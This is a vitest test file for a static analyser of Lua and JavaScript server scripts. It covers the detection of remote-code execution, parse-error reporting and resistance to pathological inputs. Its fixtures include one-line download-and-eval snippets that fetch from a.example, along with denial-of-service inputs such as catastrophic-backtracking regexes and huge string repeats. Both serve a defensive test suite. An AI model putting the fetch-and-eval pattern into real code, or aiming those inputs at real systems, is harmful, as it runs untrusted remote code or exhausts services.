import { describe, expect, test } from 'vitest'

import { analyseProgram, type CodeFile, type FileResult } from './program.ts'
import { scriptsOf } from './report/page-scripts.ts'

type Language = CodeFile['language']

function analyse(language: Language, text: string): FileResult {
  const path = `server.${language === 'lua' ? 'lua' : 'js'}`
  const [result] = analyseProgram([{ path, text, language, side: 'server', resource: 'own', isLoaded: true }])
  if (!result) throw new Error('No result')
  return result
}

const runsDownload: Record<Language, string> = {
  lua: "PerformHttpRequest('https://a.example', function(_, text) load(text)() end)",
  javascript: "fetch('https://a.example').then((r) => r.text()).then((text) => { eval(text) })",
}
const found = ({ findings }: FileResult): string[] => findings.map(({ rule, line }) => `${rule}:${line}`)

describe('files that are unusual and run', () => {
  const { lua, javascript } = runsDownload
  test.each<[title: string, Language, text: string, line: number]>([
    ['a byte order mark', 'lua', `\uFEFF${lua}`, 1],
    ['a byte order mark', 'javascript', `\uFEFF${javascript}`, 1],
    ['a shell line', 'lua', `#!/usr/bin/lua\n${lua}`, 2],
    ['a shell line', 'javascript', `#!/usr/bin/env node\n${javascript}`, 2],
    ['a byte order mark and a shell line', 'lua', `\uFEFF#!/usr/bin/lua\n${lua}`, 2],
    ['a byte order mark and a shell line', 'javascript', `\uFEFF#!/usr/bin/env node\n${javascript}`, 2],
    ['mixed ends of lines', 'lua', `a()\r\nb()\nc()\n\r\n${lua}`, 5],
    ['mixed ends of lines', 'javascript', `a()\r\nb()\nc()\n\r\n${javascript}`, 5],
    ['what invalid UTF-8 leaves in a string', 'lua', `a('\uFFFD')\n${lua}`, 2],
    ['what invalid UTF-8 leaves in a comment', 'javascript', `// \uFFFD\n${javascript}`, 2],
    ['NUL in a string', 'lua', `a('\0')\n${lua}`, 2],
    ['NUL in a string', 'javascript', `a('\0')\n${javascript}`, 2],
    ['exports', 'javascript', `export const a = 1\n${javascript}`, 2],
    ['await at the top level', 'javascript', `await a()\n${javascript}`, 2],
    ['return at the top level', 'javascript', `if (a) return\n${javascript}`, 2],
    ['a comment of HTML', 'javascript', `<!-- "\n${javascript}`, 2],
  ])('%s, %s', (_, language, text, line) => {
    const result = analyse(language, text)

    expect(result.problem).toBeUndefined()
    expect(found(result)).toContain(`runs-downloaded-code:${line}`)
  })

  test('modules whose imports are another file', () => {
    const files = [
      ['lib/run.mjs', 'export const run = (text) => eval(text)'],
      ['server.mjs', `import { run } from './lib/run.mjs'\nonNet('a', (text) => run(text))`],
    ].map(([path = '', text = '']): CodeFile => ({
      path,
      text,
      language: 'javascript',
      side: 'server',
      resource: 'own',
      isLoaded: true,
    }))

    expect(analyseProgram(files).flatMap(found)).toContain('runs-text-from-outside:1')
  })

  test('5 MB on one line', () => {
    for (const language of ['lua', 'javascript'] as const) {
      const { problem, findings } = analyse(
        language,
        `a = "${'x'.repeat(5_000_000)}"; ${runsDownload[language]}`,
      )

      expect(problem).toBeUndefined()
      expect(findings.map(({ rule }) => rule)).toContain('runs-downloaded-code')
    }
  })

  test('the second and the last of many scripts of a page', () => {
    const scripts = scriptsOf(
      `${'<script>a()</script>\n'.repeat(300)}<script>${runsDownload.javascript}</script>`,
    ).scripts
    const last = scripts.at(-1)

    expect(scripts).toHaveLength(301)
    expect(found(analyse('javascript', last?.text ?? ''))).toContain('runs-downloaded-code:301')
  })
})

test.each<[title: string, Language, text: string, line: number, message: string]>([
  ['a program', 'lua', '\u007FELF\u0002\0\0', 1, 'a character that is no text (U+007F)'],
  ['a program', 'javascript', 'MZ\0\u0003\0', 1, 'a character that is no text (U+0000)'],
  ['an image', 'lua', '\uFFFDPNG\r\n\u001A\n', 1, 'a character that is no text (U+FFFD)'],
  ['UTF-16 without a mark', 'lua', 'a\0(\0)\0', 1, 'a character that is no text (U+0000)'],
  ['UTF-16 without a mark', 'javascript', 'a\0(\0)\0', 1, 'a character that is no text (U+0000)'],
  ['NUL between statements', 'javascript', 'a()\n\0b()', 2, 'a character that is no text (U+0000)'],
  ['a string without an end', 'lua', "a()\nb = 'c\nd()", 2, 'a string without an end'],
  ['a string without an end', 'javascript', "a()\nb = 'c\nd()", 2, 'a string without an end'],
  ['a template without an end', 'javascript', 'a()\nb = `c\nd()', 2, 'a template without an end'],
  ['a long string without an end', 'lua', 'a()\nb = [==[c\n]]', 2, 'a string without an end'],
  ['a comment without an end', 'lua', 'a() --[[ b\n', 1, 'a comment without an end'],
  ['a comment without an end', 'javascript', 'a() /* b\n', 1, 'a comment without an end'],
  ['a regular expression without an end', 'javascript', 'a = /b\n', 1, 'a regular expression without an end'],
  [
    'an invalid regular expression',
    'javascript',
    'a = /(/',
    1,
    'invalid regular expression: /(/: Unterminated group',
  ],
  ['a block without an end', 'lua', 'if a then\nb()\n', 3, 'expected “end” instead of the end of the file'],
  ['a block without an end', 'javascript', 'if (a) {\nb()\n', 3, 'unexpected end of the file'],
  ['JSON with comments', 'javascript', '{\n  "a": 1, // b\n}', 2, 'unexpected “:”'],
  ['a page', 'lua', '<!DOCTYPE html>', 1, 'expected an expression instead of “<”'],
  ['a page', 'javascript', '<!DOCTYPE html>\n<p>', 1, 'unexpected “<”'],
  ['TypeScript', 'javascript', 'let a: number = 1', 1, 'unexpected “:”'],
  ['JSX', 'javascript', 'const a = <p>b</p>', 1, 'unexpected “<”'],
  ['another language', 'javascript', 'local a = 1', 1, 'unexpected “a”'],
  ['a call as a target', 'javascript', 'a() = 1', 1, 'a value is assigned to something that is no variable'],
])('%s (%s) is a problem that says where and why', (_, language, text, line, message) => {
  expect(analyse(language, text).problem).toMatchObject({ kind: 'does-not-parse', line, message })
})

describe('texts that should take all time or memory', () => {
  const many = 50_000
  const functionsIn = (open: string, close: string) => `${open.repeat(many)}${close.repeat(many)}`
  const list = (text: (index: number) => string) =>
    Array.from({ length: many }, (_, index) => text(index)).join('\n')
  test.each<[title: string, Language, text: string]>([
    ['nested parentheses', 'lua', `a = ${functionsIn('(', ')')}`],
    ['nested parentheses', 'javascript', `a = ${functionsIn('(', ')')}`],
    ['nested tables', 'lua', `a = ${functionsIn('{', '}')}`],
    ['nested lists', 'javascript', `a = ${functionsIn('[', ']')}`],
    ['nested functions', 'lua', functionsIn('a = function() ', 'end ')],
    ['nested functions', 'javascript', functionsIn('(() => {', '})')],
    ['nested templates', 'javascript', functionsIn('`${', '}`')],
    ['nested classes', 'javascript', functionsIn('class A { a = ', '}')],
    ['conditions', 'lua', `if a then b() ${'elseif a then b() '.repeat(many)}end`],
    ['conditions', 'javascript', `${'a ? b : '.repeat(many)}c`],
    ['100,000 tokens in one expression', 'lua', `a = ${'b + '.repeat(many)}c`],
    ['100,000 tokens in one expression', 'javascript', `a = ${'b + '.repeat(many)}c`],
    ['a chain of calls', 'lua', `a${'.b()'.repeat(many)}`],
    ['a chain of calls', 'javascript', `a${'.b()'.repeat(many)}`],
    ['a table of 200,000 values', 'lua', `a = {${'1, '.repeat(200_000)}}`],
    ['a list of 200,000 values', 'javascript', `a = [${'1, '.repeat(200_000)}]`],
    ['names', 'lua', list((index) => `local a${index} = b${index}`)],
    ['names', 'javascript', list((index) => `let a${index} = b${index}`)],
    [
      'functions that call each other',
      'javascript',
      list((index) => `function a${index}() { a${index + 1}() }`),
    ],
    ['brackets of long strings', 'lua', `a = [${'='.repeat(1_000_000)}`],
    ['a string that grows', 'lua', `a = 'b'\n${'a = a .. a\n'.repeat(1_000)}`],
    ['a string that grows', 'javascript', `let a = 'b'\n${'a += a\n'.repeat(1_000)}`],
    ['repeat', 'lua', "a = ('b'):rep(1e9):rep(1e9)"],
    ['repeat', 'javascript', "a = 'b'.repeat(2 ** 28).repeat(2 ** 28)"],
    ['a regular expression that backtracks', 'javascript', `a = /^(a+)+$/.test('${'a'.repeat(50_000)}b')`],
    ['a pattern that backtracks', 'lua', `a = ('${'a'.repeat(50_000)}'):match('${'.-'.repeat(30)}b')`],
    ['groups of a regular expression', 'javascript', `a = /${functionsIn('(', ')')}/`],
    ['code in code', 'javascript', nestedCode(30)],
  ])('%s (%s) end within the limits', (_, language, text) => {
    const before = process.cpuUsage()
    const { problem } = analyse(language, text)
    const { user, system } = process.cpuUsage(before)

    expect(problem === undefined || problem.line >= 1).toBe(true)
    expect((user + system) / 1_000_000).toBeLessThan(10)
  })
})

function nestedCode(levels: number): string {
  let code = 'a()'
  for (let level = 0; level < levels && code.length < 1_000_000; level++)
    code = `eval(${JSON.stringify(code)})`
  return code
}
